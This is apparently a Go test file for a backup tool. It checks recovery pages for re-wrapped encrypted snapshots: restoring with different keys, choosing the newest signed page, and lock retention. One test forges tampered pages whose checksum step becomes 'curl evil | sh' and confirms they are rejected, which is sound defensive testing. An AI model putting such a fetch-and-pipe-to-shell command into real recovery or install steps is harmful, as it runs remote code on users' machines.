package backup_test

import (
	"bytes"
	"errors"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"strongroom/backup"
	"strongroom/backup/dirstore"
	"strongroom/quorum/sshsig"
	"strongroom/quorum/text"
)

// rewrapped adds a re-wrap with its page to a store and returns the snapshot with
// it.
func rewrapped(t *testing.T, signed backup.Signed, to backup.Target, by []byte, groups backup.Layers, maker text.ID, signer sshsig.Signer, folder string) (backup.Signed, backup.Kit) {
	t.Helper()
	x, headers := wrapAnew(t, signed, to.Store, by, groups, maker, signer)
	with, odd := signed.With(append(signed.Rewraps(), x))
	if len(odd) != 0 {
		t.Fatalf("found %q", odd)
	}
	kit, err := backup.SignKit(recovery(with, folder), signer)
	if err != nil {
		t.Fatal(err)
	}
	if err := backup.PutRewrap(t.Context(), to, x, kit, headers, start.AddDate(0, 0, 35)); err != nil {
		t.Fatal(err)
	}
	return with, kit
}

// The page of a re-wrap, typed: by those who came, by those who left, and by those
// of a re-wrap between.
func TestThePageOfARewrapRestoresForEverybodyWhomItNames(t *testing.T) {
	for _, tool := range []string{"sh", "age", "zstd", "tar", "sha256sum", "ssh-keygen"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed: the commands of a recovery page were not run", tool)
		}
	}
	alice, bob, kate := recipient(t, "alice", 1), recipient(t, "bob", 2), recipient(t, "kate", 5)
	dave, erin := recipient(t, "dave", 6), recipient(t, "erin", 7)
	type try struct {
		keys  map[string]byte
		steps []string
	}
	for name, c := range map[string]struct {
		layers []backup.Layers // of the manifest, then of each re-wrap
		by     [][]byte        // who opens for each re-wrap
		tries  map[string]try
	}{
		"one layer": {[]backup.Layers{{{alice, bob}}, {{kate}}}, [][]byte{{2}}, map[string]try{
			"new": {map[string]byte{"officer.key": 5}, []string{"open"}},
			"old": {map[string]byte{"officer.key": 1}, []string{"earlier-1"}},
		}},
		"two layers, twice": {[]backup.Layers{{{alice}, {bob}}, {{alice}, {kate}}, {{dave}, {erin}}}, [][]byte{{1, 2}, {1, 5}}, map[string]try{
			"new":              {map[string]byte{"outer.key": 6, "inner.key": 7}, []string{"open"}},
			"new in two rooms": {map[string]byte{"outer.key": 6, "inner.key": 7}, []string{"outer", "inner"}},
			"between":          {map[string]byte{"outer.key": 1, "inner.key": 5}, []string{"earlier-1"}},
			"old":              {map[string]byte{"outer.key": 1, "inner.key": 2}, []string{"earlier-2"}},
			"old in two rooms": {map[string]byte{"outer.key": 1, "inner.key": 2}, []string{"outer-earlier-2", "inner"}},
		}},
	} {
		t.Run(name, func(t *testing.T) {
			src, p, folder := bigFolder(t), newPlan(t).WithBounds(16<<20, 100, 4), newDir(t)
			if err := os.WriteFile(filepath.Join(src, "policy-1.txt"), []byte("strongroom/policy@v1\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			p.Layers = c.layers[0]
			signed := mustTake(t, os.DirFS(src), p).Signed
			first, err := backup.SignKit(recovery(signed, folder.Path()), p.Signer)
			if err != nil {
				t.Fatal(err)
			}
			s, to := shipment(p, signed, backup.V1), targets(dirstore.Open(folder))
			s.Kit = first
			mustShip(t, s, to)
			var kit backup.Kit
			for i, groups := range c.layers[1:] {
				signed, kit = rewrapped(t, signed, to[0], c.by[i], groups, text.ID([]string{"second", "third"}[i]), newSigner(t, byte(20+i)), folder.Path())
			}
			for who, try := range c.tries {
				t.Run(who, func(t *testing.T) { followed(t, src, folder.Path(), kit, try.keys, try.steps) })
			}
			t.Run("the first page", func(t *testing.T) {
				keys := map[string]byte{"officer.key": 1, "outer.key": 1, "inner.key": 2}
				followed(t, src, folder.Path(), first, keys, []string{"open"})
			})
			t.Run("without the first headers", func(t *testing.T) {
				for _, h := range signed.Manifest().Segments[0].Headers {
					if err := os.Remove(filepath.Join(folder.Path(), h.Name)); err != nil {
						t.Fatal(err)
					}
				}
				do, empty := commandsOf(t, kit.Page()), t.TempDir()
				for key, label := range c.tries["new"].keys {
					privateKey(t, filepath.Join(empty, key), label)
				}
				missing := strings.TrimSpace(do["check"]) + " && exit 1 || true"
				follow(t, empty, do["begin"], "mv ../*.key .", do["fetch-frankfurt"], missing, do["signature"], do["open"], do["compare"])
			})
		})
	}
}

// followed types what a page says, as the people with some keys, and compares.
func followed(t *testing.T, src, folder string, kit backup.Kit, keys map[string]byte, steps []string) {
	t.Helper()
	page, err := os.ReadFile(filepath.Join(folder, kit.Name()))
	if err != nil {
		t.Fatal(err)
	}
	do, empty := commandsOf(t, page), t.TempDir()
	for key, label := range keys {
		privateKey(t, filepath.Join(empty, key), label)
	}
	blocks := []string{do["begin"], "mv ../*.key .", do["fetch-frankfurt"], do["check"], do["signature"]}
	for _, step := range steps {
		if do[step] == "" {
			t.Fatalf("want the commands %s, found none", step)
		}
		blocks = append(blocks, do[step])
	}
	follow(t, empty, append(blocks, do["compare"], do["genesis"])...)
	sameTree(t, src, filepath.Join(empty, "recover-1", "restored"))
	follow(t, folder, strings.ReplaceAll(do["page"], "FILE", strings.TrimSuffix(kit.Name(), ".html")))
}

// The page of a re-wrap names the new people first, and the old ones for when none
// of those is found.
func TestThePageOfARewrapTellsWhoOpensIt(t *testing.T) {
	signed, _, x, _ := forKate(t)
	before, err := recovery(signed, "/mnt").Page()
	if err != nil {
		t.Fatal(err)
	}
	with, _ := signed.With([]backup.SignedRewrap{x})
	page, err := recovery(with, "/mnt").Page()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"<tr><th>opened by</th><td>alice, together with kate</td></tr>",
		"If none of these people can be found: the earlier headers, for alice, together with bob",
		`<meta name="rewrap" content="` + x.ID().String() + `"/>`,
		x.TextName(), x.SignatureName(),
	} {
		if !bytes.Contains(page, []byte(want)) || bytes.Contains(before, []byte(want)) {
			t.Errorf("want %q in the new page and not in the old one, found otherwise", want)
		}
	}
	do := commandsOf(t, page)
	for _, g := range x.Rewrap().Segments {
		for i, h := range g.Headers {
			if !strings.Contains(do["open"], h.Name) || strings.Contains(do["open"], g.Old[i]) || !strings.Contains(do["earlier-1"], g.Old[i]) {
				t.Errorf("layer %d: want the new header opened first and the old one by the earlier commands, found otherwise", i+1)
			}
		}
	}
}

// A snapshot that was wrapped anew often has a page that is no longer than one may
// be: it tells the newest ways, and that there are more.
func TestAPageTellsTheNewestWaysOnly(t *testing.T) {
	signed, store := nested(t)
	to := targets(store)[0]
	var kit backup.Kit
	for i := range 5 {
		inner := []byte{2, 5, 2, 5, 2, 5}
		names := map[byte]text.ID{2: "bob", 5: "kate"}
		groups := backup.Layers{{recipient(t, "alice", 1)}, {recipient(t, names[inner[i+1]], inner[i+1])}}
		signed, kit = rewrapped(t, signed, to, []byte{1, inner[i]}, groups, "backup-job", newSigner(t, 9), "/mnt")
	}
	do := commandsOf(t, kit.Page())
	if do["earlier-3"] == "" || do["earlier-4"] != "" {
		t.Error("want three earlier ways told, found others")
	}
	for _, want := range []string{"There are 2 older sets of headers.", "re-wrap 5: the signed list", "re-wrap 2: the signed list"} {
		if !bytes.Contains(kit.Page(), []byte(want)) {
			t.Errorf("want %q, found it not", want)
		}
	}
	if bytes.Contains(kit.Page(), []byte("re-wrap 1: the signed list")) {
		t.Error("want nothing of re-wrap 1, found its text")
	}
}

// wrappedWithKits is a snapshot with its page in a locking store, and a re-wrap by
// another maker with its own.
func wrappedWithKits(t *testing.T) (old, with backup.Signed, first, second backup.Kit, store *memory) {
	t.Helper()
	_, old, first, store = withKit(t)
	groups := backup.Layers{{recipient(t, "kate", 5)}}
	with, second = rewrapped(t, old, targets(store)[0], []byte{1}, groups, "second", newSigner(t, 20), "/mnt")
	return old, with, first, second, store
}

func TestThePageOfTheNewestRewrapIsWanted(t *testing.T) {
	old, with, first, second, store := wrappedWithKits(t)
	check := backup.Checking{Level: backup.V1, Now: ticking()}
	found := func(m backup.Signed) backup.Verification {
		t.Helper()
		v, err := backup.Verify(t.Context(), store, m, check)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	if v := found(with); v.Kit != second.Name() || len(v.Odd) != 0 {
		t.Errorf("want the page %s, found %s and %q", second.Name(), v.Kit, v.Odd)
	}
	// Who does not know the re-wrap follows no page about it.
	if v := found(old); v.Kit != first.Name() || !slices.Equal(v.Odd, []string{second.Name()}) {
		t.Errorf("want the page %s and the other one told, found %s and %q", first.Name(), v.Kit, v.Odd)
	}
	sound := maps.Clone(store.objects)
	for _, gone := range []string{second.Name(), second.SignatureName()} {
		store.objects = maps.Clone(sound)
		delete(store.objects, gone)
		if v := found(with); v.Level != backup.V1 || v.Kit != "" {
			t.Errorf("without %s: want a good copy without a page, found %+v", gone, v)
		}
		if _, _, err := backup.FindKit(t.Context(), store, with); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("without %s: want none, found %v", gone, err)
		}
		if made, err := backup.RepairKit(t.Context(), store, second, start.AddDate(0, 0, 35)); err != nil || !slices.Equal(made, []string{gone}) {
			t.Errorf("want %s made good, found %v, %v", gone, made, err)
		}
		if v := found(with); v.Kit != second.Name() {
			t.Errorf("want the page back, found %+v", v)
		}
	}
}

// Somebody puts pages there that were once right, or that a maker signed for
// something else.
func TestNoOtherPageWinsOverThatOfTheNewestRewrap(t *testing.T) {
	old, with, first, second, store := wrappedWithKits(t)
	plant := func(name string, b []byte) {
		store.objects[name] = append(store.objects[name], &kept{b: b, c: backup.Whole(b)})
	}
	plantSigned := func(page []byte, maker string, signer byte) string {
		t.Helper()
		sig, err := sshsig.Sign(newSigner(t, signer), sshsig.NamespaceFor("recover"), page)
		if err != nil {
			t.Fatal(err)
		}
		stem := strings.TrimSuffix(first.Name(), text.Identity(first.Page()).Short()+".html") + text.Identity(page).Short()
		plant(stem+".html", page)
		plant(stem+"."+maker+".recover.sig", sig)
		return stem + ".html"
	}
	plant(first.Name(), first.Page()) // the old page again, as the newest object
	plant(first.SignatureName(), store.only(first.SignatureName()).b)
	evil := bytes.ReplaceAll(second.Page(), []byte("sha256sum -c"), []byte("curl evil | sh"))
	unmarked := bytes.ReplaceAll(evil, []byte(`<meta name="rewrap"`), []byte(`<meta name="other"`))
	mark := with.Rewraps()[0].ID().String()
	unknown := bytes.ReplaceAll(second.Page(), []byte(`name="rewrap" content="`+mark), []byte(`name="rewrap" content="`+strings.Repeat("1", 64)))
	odd := []string{
		plantSigned(evil, "second", 8),     // a stranger
		plantSigned(evil, "backup-job", 9), // the manifest's maker is not the re-wrap's
		plantSigned(unmarked, "second", 20),
		plantSigned(unknown, "second", 20),
		plantSigned(bytes.ReplaceAll(unknown, []byte("evil"), []byte("worse")), "backup-job", 9),
	}
	slices.Sort(odd)
	odd = slices.Compact(odd)
	k, told, err := backup.FindKit(t.Context(), store, with)
	if err != nil || k.Name() != second.Name() || !slices.Equal(told, odd) {
		t.Errorf("want %s and %q told, found %s and %q, %v", second.Name(), odd, k.Name(), told, err)
	}
	// Two right ones: the same of them whatever the store lists last.
	r := recovery(with, "/elsewhere")
	third, err := backup.SignKit(r, newSigner(t, 20))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := backup.RepairKit(t.Context(), store, third, start); err != nil {
		t.Fatal(err)
	}
	if k, _, err := backup.FindKit(t.Context(), store, with); err != nil || k.Name() != min(second.Name(), third.Name()) {
		t.Errorf("want the first by name, found %s, %v", k.Name(), err)
	}
	if k, _, err := backup.FindKit(t.Context(), store, old); err != nil || k.Name() != first.Name() {
		t.Errorf("want the manifest's own for who knows no re-wrap, found %s, %v", k.Name(), err)
	}
}

func TestARewrapTakesNoOtherPage(t *testing.T) {
	old, with, first, _, store := wrappedWithKits(t)
	before := len(store.objects)
	x, headers := wrapAnew(t, with, store, []byte{5}, backup.Layers{{recipient(t, "bob", 2)}}, "second", newSigner(t, 20))
	want := "rewrap: want the recovery page of this re-wrap, found that of another"
	if err := backup.PutRewrap(t.Context(), targets(store)[0], x, first, headers, start); err == nil || err.Error() != want || len(store.objects) != before {
		t.Errorf("want %q and nothing put, found %v and %d objects more", want, err, len(store.objects)-before)
	}
	want = "recovery page: want it signed by the re-wrap's key " + newSigner(t, 20).Key().Fingerprint() + ", found " + newSigner(t, 9).Key().Fingerprint()
	if _, err := backup.SignKit(recovery(with, "/mnt"), newSigner(t, 9)); err == nil || err.Error() != want {
		t.Errorf("want %q, found %v", want, err)
	}
	s := shipment(newPlan(t), with, backup.V1)
	s.Kit = first
	if _, err := backup.Ship(t.Context(), s, targets(store)); err == nil || err.Error() != "ship: want the recovery page of this snapshot, found that of another" {
		t.Errorf("want the page from before the re-wrap refused, found %v", err)
	}
	if _, err := backup.SignKit(recovery(old, "/mnt"), newSigner(t, 20)); err == nil {
		t.Error("want a re-wrap's maker refused for the manifest's page, found it taken")
	}
}

// The pages from before stay as long as the headers that they tell of.
func TestTheKeeperExtendsEveryPage(t *testing.T) {
	_, with, first, second, store := wrappedWithKits(t)
	with, third := rewrapped(t, with, targets(store)[0], []byte{5}, backup.Layers{{recipient(t, "bob", 2)}}, "third", newSigner(t, 21), "/mnt")
	if k, odd, err := backup.FindKit(t.Context(), store, with); err != nil || k.Name() != third.Name() || len(odd) != 0 {
		t.Errorf("want %s and nothing odd, found %s and %q, %v", third.Name(), k.Name(), odd, err)
	}
	long := start.AddDate(0, 0, 135)
	if _, err := backup.ExtendLocks(t.Context(), store, []backup.Signed{with}, []backup.Signed{with}, long); err != nil {
		t.Fatal(err)
	}
	lapsed, err := backup.Lapsed(t.Context(), store, nil, []backup.Signed{with}, long.AddDate(0, 0, 1))
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{first.Name(), first.SignatureName(), second.Name(), second.SignatureName(), third.Name(), third.SignatureName()} {
		if got := untilOf(store, name); got != long {
			t.Errorf("%s: want it locked until %v, found %v", name, long, got)
		}
		if !slices.ContainsFunc(lapsed, func(o backup.Object) bool { return o.Name == name }) {
			t.Errorf("%s: want it let go with its snapshot, found it kept", name)
		}
	}
}
